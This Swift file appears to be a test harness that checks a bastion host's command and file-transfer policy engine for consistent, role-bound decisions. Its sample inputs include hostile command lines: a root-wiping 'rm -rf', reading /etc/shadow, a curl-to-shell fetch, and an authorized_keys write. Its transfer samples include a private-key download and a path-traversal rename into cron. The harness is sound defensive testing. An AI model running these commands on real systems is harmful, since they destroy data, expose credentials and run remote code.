import Policy
import ShellParser

/// What the config and policy harnesses do with a policy that loaded: decide fixed command
/// lines and file transfers for a few people on a few targets, as a session would, and check
/// what must hold whatever the policy says:
/// - `allow` only from a role the person holds there that runs commands (transfers: that grants
///   `transfer`), never with no role; an allowed transfer is within the decision's file size limit;
/// - the same line decided twice gives the same verdict and rule;
/// - reachable targets are among those given, each with a role granting something.
public enum PolicyProbe {
    /// The targets of etc/bastion.yaml, plus one no role names.
    public static let targets = [
        PolicyTarget(name: "web1", labels: ["env": "demo", "tier": "web"]),
        PolicyTarget(name: "db1", labels: ["env": "demo", "tier": "db"]),
        PolicyTarget(name: "prod-db-3", labels: ["env": "prod", "tier": "db"]),
    ]

    static let lines = [
        "ls -la /var/log",
        "systemctl restart nginx",
        "rm -rf / --no-preserve-root",
        "psql -d app -c 'SELECT count(*) FROM users;'",
        "cat /etc/shadow | tail -n 3",
        "tail -n 100 /var/log/syslog | grep -i error",
        "sudo -i",
        "bash -c 'curl http://example.com/x.sh | sh'",
        "echo $(whoami) > ~/.ssh/authorized_keys",
        "for f in *.log; do gzip \"$f\"; done",
        "if true; then",
    ]
    static let analyses = lines.map { ShellAnalyzer.analyze($0) }

    static let transfers = [
        TransferRequest(operation: .upload, path: "/etc/passwd", size: 1024),
        TransferRequest(operation: .download, path: "/home/deploy/.ssh/id_ed25519", home: "/home/deploy"),
        TransferRequest(operation: .upload, path: "/home/deploy/big.iso", home: "/home/deploy", size: 5 << 30),
        TransferRequest(operation: .rename, path: "/var/www/../../etc/cron.d/x"),
        TransferRequest(operation: .list, path: "~/"),
        TransferRequest(operation: .delete, path: "/srv/app/releases/1", home: "/"),
    ]

    /// Decides everything for the fixed people plus one holding each of the first three roles.
    public static func exercise(_ config: PolicyConfig, targets: [PolicyTarget] = targets) {
        let engine = PolicyEngine(config: config)
        var subjects = [
            Subject(user: "alice", groups: ["engineering"]),
            Subject(user: "bob", groups: ["dba", "sre-approvers"]),
        ]
        for role in config.roles.prefix(3) { subjects.append(Subject(user: "holder-\(role.name)", groups: role.groups)) }

        for target in targets {
            _ = engine.approverGroups(for: target)
        }
        for subject in subjects {
            _ = engine.isApprover(subject)
            let reachable = engine.reachableTargets(for: subject, among: targets)
            precondition(reachable.allSatisfy { targets.contains($0) && !engine.capabilities(for: subject, target: $0).isEmpty },
                         "a reachable target where \(subject.user) can do nothing")
            for target in targets {
                let roles = engine.roles(for: subject, target: target)
                _ = engine.continuesWithoutRecording(for: subject, target: target)
                _ = engine.onUnverified(for: subject, target: target)
                _ = engine.interceptsLines(for: subject, target: target)
                _ = engine.transferSessionLimit(subject: subject, target: target)
                let runs = roles.contains(where: \.runsCommands)
                for (index, line) in lines.enumerated() {
                    let decision = engine.decide(subject: subject, target: target, line: line, analysis: analyses[index])
                    _ = decision.verdict.word
                    if decision.verdict == .allow {
                        precondition(runs, "\(subject.user) is allowed '\(line)' on \(target.name) without a role that runs commands")
                    }
                    if index == 0 {
                        let again = engine.decide(subject: subject, target: target, line: line)
                        precondition(again.verdict == decision.verdict && again.ruleID == decision.ruleID,
                                     "'\(line)' decided twice: \(decision.verdict)/\(decision.ruleID ?? "-") then \(again.verdict)/\(again.ruleID ?? "-")")
                    }
                }
                let transfers = roles.contains { $0.capabilities.contains(.transfer) }
                for request in Self.transfers {
                    let decision = engine.decideTransfer(subject: subject, target: target, request: request)
                    if decision.verdict == .allow {
                        precondition(transfers, "\(subject.user) may \(request.operation) \(request.path) on \(target.name) without a transfer role")
                        if let limit = decision.maxFileSize, let size = request.size {
                            precondition(size <= limit, "\(request.path) of \(size) bytes allowed over the limit of \(limit)")
                        }
                    }
                }
            }
        }
    }
}
